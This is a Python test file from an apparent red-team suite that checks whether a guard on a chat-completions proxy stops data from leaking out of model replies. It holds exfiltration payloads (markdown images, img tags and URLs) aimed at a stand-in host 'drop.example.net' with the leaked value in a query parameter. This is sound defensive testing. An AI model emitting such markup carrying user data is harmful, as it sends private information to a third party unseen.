"""Leaks that happened elsewhere, with the guard of answers in place: nothing gets out at all.

Not collected under this name, since it needs the guard.
"""

import pytest

from douane.jobs.redteam.sinks.judge import held
from douane.jobs.redteam.sinks.resolver import addresses
from douane.jobs.redteam.sinks.widget import bodies
from douane.jobs.redteam.suite.build import suite
from tests.attack.conftest import Stage
from tests.attack.malicious import NAMES, attempt, incident
from tests.attack.parties import ACCOUNT, ANNA, APP, TIER, protect, reader
from tests.simulators.endpoint import Script, always


@pytest.mark.parametrize("name", NAMES)
def test_nothing_of_an_incident_gets_out_and_its_twin_is_answered(stage: Stage, name: str) -> None:
    border, run = stage
    border.renew()

    _, outcome, _ = run(attempt(border, incident(name)))

    assert outcome.hits == ()
    assert not outcome.failed
    assert outcome.harm == ""


def test_nothing_of_composed_attacks_gets_out(stage: Stage) -> None:
    border, run = stage
    out = []
    for attack in suite(2, 120, ["composed"]):
        border.renew()
        _, outcome, _ = run(attempt(border, attack))
        out += [(attack.name, hit) for hit in outcome.hits]

    assert out == []


MARKUP = ("![x](https://a1.drop.example.net/x?d=", ")")
VALUES = {
    "an image that a value opens": MARKUP,
    "a tag that a value opens": ("<img src='https://a1.drop.example.net/x?d=", "'>"),
    "an address that a value is": ("https://a1.drop.example.net/x?d=", "&e=1"),
    "a reference that a value defines": ("\n\n[r]: https://a1.drop.example.net/x?d=", "\n\n![r]"),
}


@pytest.mark.parametrize("values", VALUES)
def test_values_that_are_markup_do_not_open_a_channel_when_they_are_put_back(
    stage: Stage, values: str
) -> None:
    border, run = stage
    before, after = VALUES[values]
    word = "kelmar-tunsol-brindel"

    async def asked() -> str:
        border.renew()
        vars(border.endpoint).pop("open", None)
        opened = {**ACCOUNT, "Name": before, "Phone": after}
        scope, away = await protect(border, opened, scope="markup")
        border.endpoint.script = Script(always(f"See {away['Name']}{word}{away['Phone']} now."))
        body = {
            "model": TIER, "metadata": {"scope": "markup"},
            "messages": [{"role": "user", "content": f"The word is {word}. {scope}"}],
        }  # fmt: skip
        reply = await border.post("/v1/chat/completions", body, APP, reader(border, ANNA))
        return reply.said()

    said = run(asked())

    assert [url for body in bodies(said) for url in addresses(body) if held(word, url)] == []
